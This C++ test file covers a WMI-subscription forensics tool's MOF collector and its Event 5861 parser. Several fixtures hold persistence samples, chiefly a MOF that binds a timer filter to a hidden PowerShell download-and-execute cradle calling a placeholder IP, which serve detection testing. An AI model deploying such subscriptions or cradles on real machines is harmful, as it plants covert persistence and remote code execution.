// Tests for wmisub/sources/mof.hpp: the MOF collector over files and
// directories, and the WMI-Activity 5861 PossibleCause parser.
#include "wmisub/sources/mof.hpp"

#include "wmisub/assess.hpp"
#include "wmisub/graph.hpp"

#include "shared_data.hpp"
#include "scratch_dir.hpp"

#include <doctest/doctest.h>

#include <algorithm>
#include <atomic>
#include <chrono>
#include <filesystem>
#include <fstream>
#include <string>
#include <string_view>
#include <thread>
#include <variant>
#include <vector>

#if !defined(_WIN32)
#include <unistd.h>
#endif

using namespace wmisub;
using wmisub_test::scratch_dir;

namespace {

// The text of the first <tag>…</tag> in an event XML, with the five XML entities decoded.
std::string xml_field(const std::string& xml, const std::string& tag) {
    const std::size_t open = xml.find("<" + tag + ">");
    const std::size_t close = xml.find("</" + tag + ">");
    if (open == std::string::npos || close == std::string::npos) return {};
    std::string raw = xml.substr(open + tag.size() + 2, close - open - tag.size() - 2);
    std::string out;
    for (std::size_t i = 0; i < raw.size(); ++i) {
        static const std::pair<const char*, char> entities[] = {
            {"&quot;", '"'}, {"&amp;", '&'}, {"&lt;", '<'}, {"&gt;", '>'}, {"&apos;", '\''}};
        bool replaced = false;
        for (const auto& [entity, c] : entities) {
            if (raw.compare(i, std::string_view(entity).size(), entity) == 0) {
                out += c;
                i += std::string_view(entity).size() - 1;
                replaced = true;
                break;
            }
        }
        if (!replaced) out += raw[i];
    }
    return out;
}


std::string utf16le(std::string_view utf8) { return "\xFF\xFE" + utf8_to_utf16le_bytes(utf8); }

const std::string subscription_mof = R"(#pragma namespace("\\\\.\\root\\subscription")
instance of __EventFilter as $F { Name = "F"; Query = "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System'"; QueryLanguage = "WQL"; };
instance of CommandLineEventConsumer as $C { Name = "C"; CommandLineTemplate = "powershell -enc AAAA"; };
instance of __FilterToConsumerBinding { Filter = $F; Consumer = $C; };
)";

}  // namespace

// ===========================================================================
// 5861 PossibleCause
// ===========================================================================

TEST_CASE("5861: the built-in SCM subscription from a real event") {
    WMISUB_REQUIRE_SHARED(file, "events/atc_DN_0081_5861_builtin_scm_event_log.xml");
    const std::string xml = wmisub_test::read_file(file);
    const std::string cause = xml_field(xml, "PossibleCause");
    REQUIRE_FALSE(cause.empty());
    provenance base;
    base.kind = source_kind::event_log;
    base.where.source = "atc_DN_0081_5861.xml";
    base.event_record_id = 56793;
    auto parsed = parse_5861_possible_cause(cause, base, xml_field(xml, "Namespace"));
    REQUIRE(parsed);
    CHECK(parsed->errors.empty());
    const instance& f = parsed->filter;
    CHECK(f.class_name == "__EventFilter");
    CHECK(f.namespace_path == "ROOT\\Subscription");
    CHECK(*f.get("Name")->as_string() == "SCM Event Log Filter");
    CHECK(*f.get("Query")->as_string() == "select * from MSFT_SCMEventLogEvent");
    CHECK(*f.get("EventNamespace")->as_string() == "root\\cimv2");
    CHECK(*f.get("QueryLanguage")->as_string() == "WQL");
    const std::uint8_t admins[] = {1, 2, 0, 0, 0, 0, 0, 5, 32, 0, 0, 0, 32, 2, 0, 0};
    CHECK(*f.get("CreatorSID") == value::bytes(admins));
    CHECK(f.origin.event_record_id == 56793u);
    CHECK(f.origin.kind == source_kind::event_log);
    const instance& c = parsed->consumer;
    CHECK(c.class_name == "NTEventLogEventConsumer");
    CHECK(*c.get("Name")->as_string() == "SCM Event Log Consumer");
    CHECK(*c.get("SourceName")->as_string() == "Service Control Manager");
    CHECK(*c.get("NameOfUserSIDProperty")->as_string() == "sid");
    CHECK(*c.get("Category") == value::uint(0, cim_type::uint16));
    CHECK(*c.get("EventType") == value::uint(1, cim_type::uint32));
    const instance& b = parsed->binding;
    CHECK(b.class_name == "__FilterToConsumerBinding");
    CHECK(b.namespace_path == "ROOT\\Subscription");
    CHECK(*b.get("Filter") == value::reference("__EventFilter.Name=\"SCM Event Log Filter\""));
    CHECK(*b.get("Consumer") == value::reference("NTEventLogEventConsumer.Name=\"SCM Event Log Consumer\""));
    // The event's CONSUMER field names the same object, in WMI's single-key shorthand.
    const auto shorthand = parse_object_path(xml_field(xml, "CONSUMER"));
    const auto built = parse_object_path(*b.get("Consumer")->as_string());
    REQUIRE(shorthand);
    REQUIRE(built);
    CHECK(*shorthand == *built);

    const snapshot snap = to_snapshot(*parsed);
    CHECK(snap.errors.empty());
    REQUIRE(snap.filters.size() == 1);
    REQUIRE(snap.consumers.size() == 1);
    REQUIRE(snap.bindings.size() == 1);
    CHECK(*snap.filters[0].creator_sid_string() == "S-1-5-32-544");
    CHECK(*std::get<nt_event_log_consumer>(snap.consumers[0]).name_of_user_sid_property == "sid");
    const subscription_graph graph(snap);
    REQUIRE(graph.entries().size() == 1);
    CHECK(graph.entries()[0].state == subscription_state::bound);
}

TEST_CASE("5861: multi-line rendering, escapes, and headers inside strings") {
    const std::string cause = "Binding EventFilter: \n"
                              "instance of __EventFilter\n{\n\tCreatorSID = {1, 5, 0, 0, 0, 0, 0, 5, 21, 0, 0, 0, 1, "
                              "0, 0, 0, 2, 0, 0, 0, 3, 0, 0, 0, 233, 3, 0, 0};\n"
                              "\tEventNamespace = \"root\\\\cimv2\";\n\tName = \"Updater\";\n"
                              "\tQuery = \"SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance "
                              "ISA \\\"Win32_Service\\\"\";\n"
                              "\tQueryLanguage = \"WQL\";\n};\n"
                              "Perm. Consumer: \n"
                              "instance of ActiveScriptEventConsumer\n{\n\tKillTimeout = 45;\n\tName = \"Updater\";\n"
                              "\tScriptingEngine = \"VBScript\";\n\tScriptText = \"' Perm. Consumer: not a "
                              "header\\nSet s = CreateObject(\\\"WScript.Shell\\\")\";\n};";
    auto parsed = parse_5861_possible_cause(cause, provenance{}, "//./root/subscription");
    REQUIRE(parsed);
    CHECK(parsed->errors.empty());
    CHECK(parsed->filter.namespace_path == "root\\subscription");
    CHECK(parsed->filter.origin.kind == source_kind::event_log);
    CHECK(*parsed->filter.get("Query")->as_string() ==
          "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA \"Win32_Service\"");
    CHECK(*parsed->consumer.get("KillTimeout") == value::uint(45, cim_type::uint32));
    CHECK(*parsed->consumer.get("ScriptText")->as_string() ==
          "' Perm. Consumer: not a header\nSet s = CreateObject(\"WScript.Shell\")");
    CHECK(*parsed->binding.get("Consumer") == value::reference("ActiveScriptEventConsumer.Name=\"Updater\""));
    const snapshot snap = to_snapshot(*parsed);
    CHECK(*snap.filters[0].creator_sid_string() == "S-1-5-21-1-2-3-1001");
}

TEST_CASE("5861: a custom consumer class and errors inside the text") {
    const std::string cause =
        "Binding EventFilter: instance of __EventFilter { Name = \"F\"; Query = \"SELECT * FROM __TimerEvent\"; "
        "Bogus = ; }; Perm. Consumer: instance of EvilConsumer { Name = \"E\"; Payload = \"x\"; };";
    auto parsed = parse_5861_possible_cause(cause, provenance{}, "root\\subscription");
    REQUIRE(parsed);
    REQUIRE(parsed->errors.size() == 2);
    CHECK(parsed->errors[0].code == errc::not_found);  // Bogus is no property of __EventFilter
    CHECK(parsed->errors[1].code == errc::syntax_error);
    CHECK(parsed->errors[1].location.column == 108);
    CHECK(*parsed->binding.get("Consumer") == value::reference("EvilConsumer.Name=\"E\""));
}

TEST_CASE("5861: text that is not a binding is an error") {
    CHECK_FALSE(parse_5861_possible_cause("Permanent", provenance{}));
    CHECK_FALSE(parse_5861_possible_cause("", provenance{}));
    CHECK_FALSE(parse_5861_possible_cause("Binding EventFilter: Perm. Consumer: instance of X { Name = \"x\"; };",
                                          provenance{}));
    CHECK_FALSE(parse_5861_possible_cause("Binding EventFilter: instance of __EventFilter { Query = \"q\"; }; Perm. "
                                          "Consumer: instance of X { Name = \"x\"; };",
                                          provenance{}));
    const auto no_consumer = parse_5861_possible_cause(
        "Binding EventFilter: instance of __EventFilter { Name = \"F\"; }; Perm. Consumer: ", provenance{});
    REQUIRE_FALSE(no_consumer);
    CHECK(no_consumer.error().code == errc::syntax_error);
}

// ===========================================================================
// The MOF collector
// ===========================================================================

TEST_CASE("collector: every published sample in one snapshot") {
    WMISUB_REQUIRE_SHARED(dir, "mof");
    mof_collector source({dir});
    std::vector<std::string> seen;
    collect_options options;
    options.progress = [&](const collect_progress& p) {
        seen.emplace_back(p.stage);
        CHECK(p.total == 11);
    };
    auto snap = source.collect(options);
    REQUIRE(snap);
    CHECK(seen.size() == 11);
    CHECK(snap->filters.size() == 12);
    CHECK(snap->consumers.size() == 11);
    CHECK(snap->bindings.size() == 12);
    CHECK(snap->other_objects.size() == 7);
    // The one malformed sample (a consumer without its key) is reported twice: by the parser and by the model.
    CHECK(snap->errors.size() == 2);
    for (const collection_error& e : snap->errors) CHECK(e.source.ends_with("msdocs_cross_namespace.mof"));
    REQUIRE(source.files().size() == 11);
    std::size_t autorecover = 0;
    for (const mof_file_summary& f : source.files()) {
        CHECK(f.read);
        autorecover += f.autorecover.size();
    }
    CHECK(autorecover == 2);
    CHECK(source.name() == "mof:" + detail::mof_path_to_utf8(dir));
}

TEST_CASE("collector: namespaces filter what is kept") {
    WMISUB_REQUIRE_SHARED(dir, "mof");
    mof_collector source({dir});
    collect_options options;
    options.namespaces = {"ROOT\\CIMV2"};
    auto snap = source.collect(options);
    REQUIRE(snap);
    CHECK(snap->filters.size() == 2);  // only the Metasploit MOF writes to root\cimv2
    CHECK(snap->consumers.size() == 2);
    CHECK(snap->bindings.size() == 2);
    for (const event_filter& f : snap->filters)
        CHECK(f.origin.where.source.ends_with("metasploit_wbemexec_generated.mof"));
}

TEST_CASE("collector: one sample file, joined into bound subscriptions") {
    WMISUB_REQUIRE_SHARED(file, "mof/metasploit_wbemexec_generated.mof");
    mof_collector source({file});
    auto snap = source.collect({});
    REQUIRE(snap);
    const subscription_graph graph(*snap);
    CHECK(graph.in_state(subscription_state::bound).size() == 2);
    CHECK(graph.entries().size() == 2);
}

TEST_CASE("collector: one limits struct bounds files, input bytes and the parser underneath") {
    scratch_dir dir{"wmisub-mof"};
    for (int i = 0; i < 6; ++i) dir.write("f" + std::to_string(i) + ".mof", subscription_mof);
    const mof_collector source({dir.path()});

    collect_options few_bytes;  // room for two files of the six
    few_bytes.limits.max_total_input_bytes = 2 * subscription_mof.size() + 10;
    auto snap = source.collect(few_bytes);
    REQUIRE(snap);
    CHECK(snap->filters.size() == 2);
    REQUIRE(snap->partial());
    CHECK(snap->stopped->code == errc::limit_exceeded);
    CHECK(snap->stopped->message.find("max_total_input_bytes") != std::string::npos);

    collect_options few_files;
    few_files.limits.max_files = 3;
    snap = source.collect(few_files);
    REQUIRE(snap);
    CHECK(snap->filters.size() == 3);
    CHECK_FALSE(snap->partial());  // a listed error, not a stop
    CHECK(snap->errors.back().error.code == errc::limit_exceeded);

    collect_options small_inputs;  // tightens the MOF parser's own max_input_bytes
    small_inputs.limits.max_input_bytes = 64;
    auto refused = source.collect(small_inputs);
    REQUIRE_FALSE(refused);
    CHECK(refused.error().message.find("input limit") != std::string::npos);
}

TEST_CASE("collector: autorecover and deletions become annotations rules can read") {
    scratch_dir dir{"wmisub-mof"};
    dir.write("persist.mof", "#pragma autorecover\n" + subscription_mof);
    dir.write("cleanup.mof", "#pragma namespace(\"\\\\\\\\.\\\\root\\\\subscription\")\n"
                             "#pragma deleteinstance(\"__EventFilter.Name=\\\"f\\\"\", NOFAIL)\n"
                             "#pragma deleteclass(\"EvilConsumer\", NOFAIL)\n");
    mof_collector source({dir.path()});
    auto snap = source.collect({});
    REQUIRE(snap);
    REQUIRE(snap->filters.size() == 1);
    const provenance& origin = snap->filters[0].origin;
    CHECK(origin.has(annotation_kind::autorecover));
    CHECK(origin.has(annotation_kind::deleted));  // cleanup.mof names it (names fold)
    CHECK(header_of(snap->consumers.at(0)).origin.has(annotation_kind::autorecover));
    CHECK_FALSE(header_of(snap->consumers.at(0)).origin.has(annotation_kind::deleted));
    REQUIRE(snap->annotations.size() == 2);
    CHECK(snap->annotations[0].note.kind == annotation_kind::deleted);
    CHECK(snap->annotations[0].target == "root\\subscription:__EventFilter.Name=\"f\"");
    CHECK(snap->annotations[0].note.where.line == 2);
    CHECK(snap->annotations[1].target == "EvilConsumer");
}

TEST_CASE("collector: directories recursively, encodings, extensions, bad files") {
    scratch_dir dir{"wmisub-mof"};
    dir.write("a.mof", subscription_mof);
    dir.write("good/B.MOF", utf16le("#pragma autorecover\ninstance of __EventFilter { Name = \"wide\"; Query = "
                                    "\"SELECT * FROM __TimerEvent\"; };"));
    dir.write("bad/binary.mof",
              std::string("FOMB\x01\x00\x00\x00\x08\x00\x00\x00\x10\x00\x00\x00", 16) + std::string(8, '\x55'));
    dir.write("bad/broken.mof",
              "instance of __EventFilter { Name = ; };\ninstance of __EventFilter { Name = \"after\"; };");
    dir.write("notes.txt", "instance of __EventFilter { Name = \"ignored\"; };");
    dir.write("inc/main.mof", "#pragma include(\"parts\\\\part.mof\")");
    dir.write("inc/parts/part.mof", "instance of __EventFilter { Name = \"included\"; };");
    mof_collector source({dir.path()});
    auto snap = source.collect({});
    REQUIRE(snap);
    std::vector<std::string> names;
    for (const event_filter& f : snap->filters) names.push_back(f.name);
    std::sort(names.begin(), names.end());
    CHECK(names ==
          std::vector<std::string>{"F", "after", "included", "included", "wide"});  // part.mof is also read on its own
    REQUIRE(source.files().size() == 6);
    std::size_t unsupported = 0;
    std::size_t syntax = 0;
    for (const collection_error& e : snap->errors) {
        if (e.error.code == errc::unsupported) {
            ++unsupported;
            CHECK(e.source.ends_with("bad/binary.mof"));
        }
        if (e.error.code == errc::syntax_error) {
            ++syntax;
            CHECK(e.error.location.line == 1);
            CHECK(e.error.location.column == 36);
        }
    }
    CHECK(unsupported == 1);
    CHECK(syntax == 1);
    std::size_t unreadable = 0;
    for (const mof_file_summary& f : source.files()) {
        if (!f.read) ++unreadable;
        if (f.path.ends_with("B.MOF")) {
            CHECK(f.encoding == text_encoding::utf16le);
            CHECK(f.autorecover.size() == 1);
        }
        if (f.path.ends_with("inc/main.mof")) {
            REQUIRE(f.includes.size() == 1);
            CHECK(f.includes[0].followed);
        }
    }
    CHECK(unreadable == 1);

    mof_collector_options everything;
    everything.extensions.clear();
    mof_collector all({dir.path()}, everything);
    auto more = all.collect({});
    REQUIRE(more);
    CHECK(more->filters.size() == 6);  // notes.txt too
}

TEST_CASE("collector: missing paths, nothing readable, explicit files of any name") {
    scratch_dir dir{"wmisub-mof"};
    const auto file = dir.write("persist.txt", subscription_mof);
    mof_collector mixed({dir.path() / "missing.mof", file});
    auto snap = mixed.collect({});
    REQUIRE(snap);
    CHECK(snap->bindings.size() == 1);
    REQUIRE(snap->errors.size() == 1);
    CHECK(snap->errors[0].error.code == errc::not_found);
    CHECK(mixed.name() == "mof");

    mof_collector none({dir.path() / "missing.mof"});
    auto failed = none.collect({});
    REQUIRE_FALSE(failed);
    CHECK(failed.error().code == errc::not_found);

    mof_collector empty;
    CHECK(empty.collect({}).error().code == errc::invalid_argument);

    scratch_dir blank{"wmisub-mof"};
    mof_collector nothing({blank.path()});
    CHECK(nothing.collect({}).error().code == errc::not_found);
}

TEST_CASE("collector: cancellation, deadline, file limit and parse limits") {
    scratch_dir dir{"wmisub-mof"};
    for (int i = 0; i < 5; ++i) dir.write("f" + std::to_string(i) + ".mof", subscription_mof);
    std::atomic<bool> cancel{true};
    collect_options cancelled;
    cancelled.cancel = &cancel;
    mof_collector source({dir.path()});
    auto stopped = source.collect(cancelled);
    REQUIRE(stopped);
    CHECK(stopped->stopped->code == errc::cancelled);
    CHECK(stopped->filters.empty());

    collect_options late;
    late.deadline = std::chrono::steady_clock::now() - std::chrono::seconds(1);
    auto timed_out = source.collect(late);
    REQUIRE(timed_out);
    CHECK(timed_out->stopped->code == errc::timeout);

    // Raised after the second file: the two files read are kept, marked partial.
    std::atomic<bool> later{false};
    collect_options midway;
    midway.cancel = &later;
    midway.progress = [&](const collect_progress& p) {
        if (p.done == 2) later = true;
    };
    auto some = source.collect(midway);
    REQUIRE(some);
    REQUIRE(some->partial());
    CHECK(some->stopped->code == errc::cancelled);
    CHECK(some->filters.size() >= 2);  // the parser may finish the small third file before it looks
    CHECK(some->filters.size() < 5);

    mof_collector_options few;
    few.max_files = 2;
    few.parse.max_errors = 1;
    mof_collector limited({dir.path()}, few);
    auto snap = limited.collect({});
    REQUIRE(snap);
    CHECK(limited.files().size() == 2);
    CHECK(snap->filters.size() == 2);
    REQUIRE_FALSE(snap->errors.empty());
    CHECK(snap->errors.back().error.code == errc::limit_exceeded);

    mof_collector_options tiny;
    tiny.parse.max_input_bytes = 64;
    mof_collector small({dir.path() / "f0.mof"}, tiny);
    auto refused = small.collect({});
    REQUIRE_FALSE(refused);
    const error why = std::move(refused).error();
    CHECK(why.message.find("input limit") != std::string::npos);
}

TEST_CASE("threads share one mof_collector, collecting at once") {
    scratch_dir dir{"wmisub-mof"};
    for (int i = 0; i < 8; ++i) dir.write("f" + std::to_string(i) + ".mof", subscription_mof);
    const mof_collector source({dir.path()});
    std::vector<std::size_t> filters(4);
    std::vector<std::thread> threads;
    for (std::size_t t = 0; t < filters.size(); ++t) {
        threads.emplace_back([&, t] {
            for (int round = 0; round < 5; ++round) {
                auto snap = source.collect();
                filters[t] = snap ? snap->filters.size() : 0;
                (void)source.files();  // read while other threads write it
            }
        });
    }
    for (std::thread& t : threads) t.join();
    for (std::size_t n : filters) CHECK(n == 8);
    CHECK(source.files().size() == 8);
}

TEST_CASE("a MOF cut at any byte keeps what was read, marks it incomplete, and a cut payload is still judged") {
    const std::string whole =
        "#pragma namespace(\"\\\\\\\\.\\\\root\\\\subscription\")\n"
        "instance of __EventFilter as $F { Name = \"Upd\"; EventNamespace = \"root\\\\cimv2\"; QueryLanguage = \"WQL\";\n"
        "  Query = \"SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA "
        "'Win32_PerfFormattedData_PerfOS_System' AND TargetInstance.SystemUpTime >= 240\"; };\n"
        "instance of CommandLineEventConsumer as $C { Name = \"Upd\";\n"
        "  CommandLineTemplate = \"powershell.exe -nop -w hidden -c iex (New-Object Net.WebClient)."
        "DownloadString('http://198.51.100.7/a.ps1')\"; };\n"
        "instance of __FilterToConsumerBinding { Filter = $F; Consumer = $C; };\n";
    const std::size_t command_at = whole.find("powershell.exe");
    const std::size_t command_end = whole.find("\"; };\ninstance of __FilterToConsumerBinding");
    REQUIRE(command_at != std::string::npos);
    REQUIRE(command_end != std::string::npos);
    const rule_catalog rules = rule_catalog::builtin();
    std::size_t judged_cuts = 0;
    for (std::size_t cut = 0; cut <= whole.size(); ++cut) {
        CAPTURE(cut);
        const mof_document doc = parse_mof(std::string_view(whole).substr(0, cut));
        for (const mof_instance& mi : doc.instances) {
            CHECK(mi.complete == !mi.object.origin.has(annotation_kind::incomplete));
        }
        if (cut <= command_at + 3 || cut >= command_end) continue;
        // Cut inside the command line: the consumer is kept with the command as far as it goes.
        const snapshot snap = to_snapshot(doc);
        REQUIRE(snap.consumers.size() == 1);
        const auto& cmd = std::get<command_line_consumer>(snap.consumers[0]);
        REQUIRE(cmd.command_line_template);
        CHECK(whole.compare(command_at, cmd.command_line_template->size(), *cmd.command_line_template) == 0);
        CHECK(cmd.origin.has(annotation_kind::incomplete));
        // No binding was read yet: the consumer is an orphan, judged on what it holds.
        const subscription_graph graph(snap);
        for (const assessment& a : assess(graph, rules)) {
            if (a.facts.consumer == nullptr) continue;
            const auto cut_finding = std::find_if(a.findings.begin(), a.findings.end(),
                                                  [](const finding& f) { return f.id() == "WMISUB-STR-014"; });
            REQUIRE(cut_finding != a.findings.end());
            CHECK(cut_finding->severity == severity::medium);  // a command-line consumer: the payload may be what is missing
            if (cut > whole.find("hidden")) CHECK(a.facts.payload->has(indicator_kind::hidden_window));
            ++judged_cuts;
        }
    }
    CHECK(judged_cuts == command_end - command_at - 4);
}

TEST_CASE("files and folders that cannot be read are errors naming them, and the walk goes on") {
    namespace fs = std::filesystem;
    scratch_dir dir{"wmisub-mof-unreadable"};
    const fs::path root = dir.path();
    fs::create_directories(root / "sub");
    std::ofstream(root / "sub" / "ok.mof") << "instance of __EventFilter { Name = \"F\"; Query = \"SELECT * FROM __TimerEvent\"; };\n";
    // A symbolic-link loop and a broken link cannot be read by anyone, root included.
    std::error_code link_error;
    fs::create_symlink("loop.mof", root / "loop.mof", link_error);
    if (!link_error) fs::create_symlink(root / "absent" / "x.mof", root / "broken.mof", link_error);
    if (!link_error) fs::create_directory_symlink(root / "sub", root / "sub_link", link_error);
    if (link_error) {
        MESSAGE("symbolic links are not available here: " << link_error.message());
        return;
    }
    mof_collector source(std::vector<fs::path>{root});
    auto snap = source.collect();
    REQUIRE(snap);
    CHECK(snap->filters.size() == 1);  // the readable file, once: links to folders are not followed
    std::size_t unreadable = 0;
    for (const collection_error& e : snap->errors) {
        if (e.error.location.source.find("loop.mof") != std::string::npos ||
            e.error.location.source.find("broken.mof") != std::string::npos) {
            CHECK(e.error.code == errc::io_error);
            CHECK(e.error.message.find("cannot read the file") != std::string::npos);
            ++unreadable;
        }
    }
    CHECK(unreadable == 2);

    // Named directly, the unreadable path says why, not "no MOF file found".
    auto direct = mof_collector(std::vector<fs::path>{root / "loop.mof"}).collect();
    REQUIRE(!direct);
    CHECK(direct.error().message.find("Too many levels of symbolic links") != std::string::npos);

#if !defined(_WIN32)
    // Permission is the usual cause; only a user it applies to can see it (not root).
    if (geteuid() != 0) {
        fs::create_directories(root / "locked");
        std::ofstream(root / "locked" / "hidden.mof") << "instance of X {};\n";
        std::ofstream(root / "secret.mof") << "instance of X {};\n";
        fs::permissions(root / "locked", fs::perms::none);
        fs::permissions(root / "secret.mof", fs::perms::none);
        auto denied = mof_collector(std::vector<fs::path>{root}).collect();
        fs::permissions(root / "locked", fs::perms::owner_all);
        fs::permissions(root / "secret.mof", fs::perms::owner_all);
        REQUIRE(denied);
        std::size_t refused = 0;
        for (const collection_error& e : denied->errors) refused += e.error.code == errc::access_denied ? 1u : 0u;
        CHECK(refused == 2);  // the folder and the file, each named
    }
#endif
}
